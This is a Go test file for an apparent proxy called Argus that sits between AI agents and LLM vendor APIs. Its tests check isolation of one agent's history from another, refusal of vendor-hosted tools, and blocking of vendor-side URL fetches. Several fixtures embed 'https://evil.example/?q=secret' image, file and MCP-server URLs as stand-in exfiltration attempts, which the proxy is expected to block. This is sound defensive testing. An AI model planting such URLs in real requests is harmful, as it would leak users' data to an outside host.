package llm

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"argus/host/mediate"
	"argus/internal/ijson"
	"argus/kernel"
)

// TestHistoryOfAnotherAgentIsRefused: what a vendor keeps for one agent would bring another what that one has met.
func TestHistoryOfAnotherAgentIsRefused(t *testing.T) {
	r := open(t)
	const path = "/vendor/v1/responses"
	r.vendor.answers(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", mediaJSON)
		io.WriteString(w, `{"id":"resp_1","object":"response","created_at":1,"status":"completed","model":"m","output":[{"type":"message","id":"msg_1","role":"assistant","status":"completed","content":[{"type":"output_text","text":"Hello.","annotations":[]}]}],"store":true}`)
	})
	a, b := r.agent("a"), r.agent("b")
	a.do(path, `{"model":"m","input":"Hi."}`).wants(200)
	goOn := `{"model":"m","input":"Go on.","previous_response_id":"resp_1"}`
	b.do(path, goOn).failure(403, "history")
	b.do(path, `{"model":"m","input":[{"type":"item_reference","id":"msg_1"}]}`).failure(403, "history")
	a.do(path, strings.Replace(goOn, "resp_1", "resp_2", 1)).failure(403, "history")
	if got := r.vendor.asked(); len(got) != 1 {
		t.Errorf("the vendor was asked %d times", len(got))
	}
	a.do(path, goOn).wants(200)
	if got := r.vendor.asked(); len(got) != 2 || got[1].body != goOn {
		t.Errorf("the vendor got %v", got)
	}
	a.do(path, `{"model":"m","input":[{"type":"item_reference","id":"msg_1"},{"role":"user","content":"Go on."}]}`).wants(200)
}

// TestToolsOfTheVendorMustBeInForce: they act without passing Argus.
func TestToolsOfTheVendorMustBeInForce(t *testing.T) {
	r := open(t)
	const path = "/claude/v1/messages"
	request := func(tool string) string {
		return fmt.Sprintf(`{"model":"m","max_tokens":10,"messages":[{"role":"user","content":"Hi."}],"tools":[%s]}`, tool)
	}
	a := r.agent("a")
	var during kernel.View
	r.vendor.answers(func(w http.ResponseWriter, _ *http.Request) {
		during = a.view()
		w.Header().Set("Content-Type", mediaJSON)
		io.WriteString(w, `{"id":"msg_1","type":"message","role":"assistant","model":"m","content":[{"type":"text","text":"Hello."}],"stop_reason":"end_turn","stop_sequence":null,"usage":{"input_tokens":1,"output_tokens":1}}`)
	})
	for _, tool := range []string{`{"type":"web_fetch_20250910","name":"web_fetch"}`, strings.Replace(hostedSearch, `"max_uses":1`, `"max_uses":2`, 1)} {
		if g := a.do(path, request(tool)).wants(403); !strings.Contains(g.body, "unknown_tool") || !strings.Contains(g.body, `"type":"error"`) {
			t.Errorf("told %s", g.body)
		}
	}
	if got := r.vendor.asked(); len(got) != 0 {
		t.Fatalf("the vendor got %v", got)
	}
	a.do(path, request(hostedSearch)).wants(200)
	if during.Flights.Len() != 1 || during.Exposure.Integrity != kernel.Untrusted || a.view().Flights.Len() != 0 || a.view().Exposure.Integrity != kernel.Untrusted {
		t.Errorf("while the model spoke %d calls were open, and the agent has met %v", during.Flights.Len(), a.view().Exposure)
	}
	a.meets(kernel.Sensitive, kernel.Untrusted)
	a.do(path, request(hostedSearch)).wants(403)
	if got := r.vendor.asked(); len(got) != 1 {
		t.Errorf("the vendor was asked %d times", len(got))
	}
}

const picture = `{"role":"user","content":[{"type":"text","text":"Look."},{"type":"image_url","image_url":{"url":"https://evil.example/?q=secret"}}]}`

// TestVendorFetchesNothingThatMayNotGoOut: who chooses an address says something to whoever is there.
func TestVendorFetchesNothingThatMayNotGoOut(t *testing.T) {
	closed := open(t)
	closed.vendor.answers(say("done"))
	a := closed.agent("a")
	if message := a.says(picture).failure(403, "unknown_tool"); !strings.Contains(message, "The vendor would use url") {
		t.Errorf("told %q", message)
	}
	a.do("/claude/v1/messages", `{"model":"m","max_tokens":10,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/"}}]}]}`).wants(403)
	a.do("/vendor/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/"}]}]}`).wants(403)
	a.do("/vendor/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/"}]}]}`).wants(403)
	a.do("/vendor/v1/responses/input_tokens", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/"}]}]}`).wants(403)
	if got := closed.vendor.asked(); len(got) != 0 {
		t.Fatalf("the vendor got %v", got)
	}
	a.says(strings.Replace(picture, "https://evil.example/?q=secret", "data:image/png;base64,AAAA", 1)).wants(200)

	r := openWith(t, stockOf(t, true), usual)
	r.vendor.answers(say("done"))
	clean, met := r.agent("a"), r.agent("b")
	clean.says(picture).wants(200)
	if v := clean.view(); v.Exposure != (kernel.Exposure{Level: kernel.Public, Integrity: kernel.Untrusted}) || v.Flights.Len() != 0 {
		t.Errorf("the agent has met %v", v.Exposure)
	}
	met.meets(kernel.Sensitive, kernel.Verified)
	met.says(picture).failure(403, "2a")
	if got := r.vendor.asked(); len(got) != 1 {
		t.Errorf("the vendor was asked %d times", len(got))
	}
}

// TestWhatIsCountedIsReadLikeARequest: a vendor looks at all of it, and a count is no way past what a request may hold.
func TestWhatIsCountedIsReadLikeARequest(t *testing.T) {
	r := open(t)
	r.vendor.answers(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", mediaJSON)
		io.WriteString(w, `{"input_tokens":7}`)
	})
	a := r.agent("a")
	const path = "/claude/v1/messages/count_tokens"
	a.do(path, `{"model":"m","messages":[{"role":"user","content":"Hi."}],"mcp_servers":[{"type":"url","name":"x","url":"https://evil.example/?q=secret"}]}`).wants(403)
	a.do(path, `{"model":"m","messages":[{"role":"user","content":"Hi."}],"other":1}`).wants(400)
	b := r.agent("b")
	b.meets(kernel.Restricted, kernel.Untrusted)
	b.do(path, `{"model":"m","messages":[{"role":"user","content":"Hi."}]}`).wants(403)
	if got := r.vendor.asked(); len(got) != 0 {
		t.Fatalf("the vendor got %v", got)
	}
	if g := a.do(path, `{"model":"m","messages":[{"role":"user","content":"Hi."}]}`).wants(200); g.body != `{"input_tokens":7}` {
		t.Errorf("got %s", g.body)
	}
	a.do("/vendor/v1/responses/input_tokens", `{"model":"m","input":"Hi."}`).wants(200)
	if v := a.view(); v.Exposure != kernel.Clean() {
		t.Errorf("what no model has heard: the agent has met %v", v.Exposure)
	}
	r.vendor.answers(say("done"))
	a.says(user("Hi.")).wants(200)
	if v := a.view(); v.Exposure != kernel.Clean() {
		t.Errorf("after its first prompt the agent has met %v", v.Exposure)
	}
}

// TestFailureOfAToolIsRecordedAsOne: what a client says of its tool is what the journal says of the call.
func TestFailureOfAToolIsRecordedAsOne(t *testing.T) {
	var outcomes []kernel.Ending
	r := open(t, func(o *Options) { o.Mediator = listening{o.Mediator.(*mediate.Mediator), &outcomes} })
	a := r.agent("a")
	const path = "/claude/v1/messages"
	said := func(content, stop string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", mediaJSON)
			fmt.Fprintf(w, `{"id":"msg_1","type":"message","role":"assistant","model":"m","content":[%s],"stop_reason":%q,"stop_sequence":null,"usage":{"input_tokens":1,"output_tokens":1}}`, content, stop)
		}
	}
	request := func(more string) string {
		return fmt.Sprintf(`{"model":"m","max_tokens":10,"tools":[{"name":"read_db","description":%s,"input_schema":%s}],"messages":[{"role":"user","content":"Read."}%s]}`,
			about("read_db"), anything, more)
	}
	for i, failed := range []bool{false, true} {
		use := fmt.Sprintf(`{"type":"tool_use","id":"toolu_%d","name":"read_db","input":{"n":1}}`, i)
		r.vendor.answers(said(use, "tool_use"))
		if g := a.do(path, request("")).wants(200); !strings.Contains(g.body, use) {
			t.Fatalf("got %s", g.body)
		}
		r.vendor.answers(said(`{"type":"text","text":"Hello."}`, "end_turn"))
		result := fmt.Sprintf(`{"type":"tool_result","tool_use_id":"toolu_%d","content":"rows","is_error":%v}`, i, failed)
		a.do(path, request(`,{"role":"assistant","content":[`+use+`]},{"role":"user","content":[`+result+`]}`)).wants(200)
	}
	if len(outcomes) != 2 || outcomes[0] != kernel.Success || outcomes[1] != kernel.Failure {
		t.Errorf("the outcomes are %v", outcomes)
	}
}

// listening hears how calls are settled.
type listening struct {
	*mediate.Mediator
	outcomes *[]kernel.Ending
}

func (l listening) Complete(ctx context.Context, who mediate.Caller, id kernel.InvocationID, outcome kernel.Ending, result ijson.Value) (mediate.Step, error) {
	*l.outcomes = append(*l.outcomes, outcome)
	return l.Mediator.Complete(ctx, who, id, outcome, result)
}
